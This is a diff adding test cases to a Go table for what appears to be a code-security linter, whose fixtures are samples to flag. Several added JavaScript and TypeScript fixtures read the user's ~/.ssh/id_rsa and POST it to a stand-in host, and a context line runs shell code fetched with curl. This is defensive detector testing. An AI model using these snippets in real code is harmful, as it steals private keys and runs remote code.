@@ -688,6 +688,12 @@ var codeCases = []lintCase{
 	{"Makefile.l10n", "disguised-file", "PY ?= python3\nTABLE := data/plural-forms.txt\nextract:\n\t$(PY) - extract src < $(TABLE)\n", "warning", 4},
 	{"run.sh", "disguised-file", "python3 data/rules.txt\n", "warning", 1},
 	{"run.sh", "disguised-file", "python3 scripts/gen.py < data/table.txt\nnode --prof-process isolate-1.log\n", "", 0},
+	// JavaScript's spread and regular expression literals, and TypeScript's
+	// annotations, are read past.
+	{"x.js", "secret-exfil", "const fs = require(\"fs\"), os = require(\"os\"), path = require(\"path\");\nconst LOC = [\".ssh\", \"id_rsa\"];\nconst p = path.join(os.homedir(), ...LOC);\nfetch(\"https://x.example/u\", { method: \"POST\", body: fs.readFileSync(p, \"utf8\") });\n", "error", 4},
+	{"x.js", "secret-exfil", "const fs = require(\"fs\"), os = require(\"os\");\nconst RE = [/i18nKey=[\"']([\\w.:-]+)[\"']/g];\nconst k = fs.readFileSync(os.homedir() + \"/.ssh/id_rsa\", \"utf8\");\nfetch(\"https://x.example/u\", { method: \"POST\", body: k });\n", "error", 4},
+	{"x.ts", "secret-exfil", "import fs from \"node:fs\"; import os from \"node:os\"; import path from \"node:path\";\ntype Config = {\n  endpoint: string;\n};\nfunction disc(): Record<string, string> {\n  const bundle: Record<string, string> = {};\n  bundle.k = fs.readFileSync(path.join(os.homedir(), \".ssh\", \"id_rsa\"), \"utf8\");\n  return bundle;\n}\nasync function send(url: string, extra: Record<string, string>): Promise<void> {\n  const res = await fetch(\"https://x.example/u\", { method: \"POST\", body: JSON.stringify({ to: url, auth: disc() }) });\n}\n", "error", 11},
+	{"x.ts", "secret-exfil", "const a: number = 1;\nconst y = a > 0 ? f(a) : g(a);\nconst z = a / 2 / 3;\nconsole.log(y, z);\n", "", 0},
 	// A Makefile's $$ is the shell's $ in an assignment's $(shell …) too.
 	{"mk/tools.mk", "remote-exec", "DEF := v1\nREV := $(shell sh -c \"$$(curl -fsSL https://x.example/rev 2>/dev/null)\" 2>/dev/null || echo $(DEF))\n", "warning", 2},
 	{"mk/tools.mk", "remote-exec", "REV := $(shell git describe --tags 2>/dev/null || echo $$(date +%s))\nall:\n\techo $$(git rev-parse HEAD) $(REV)\n", "", 0},
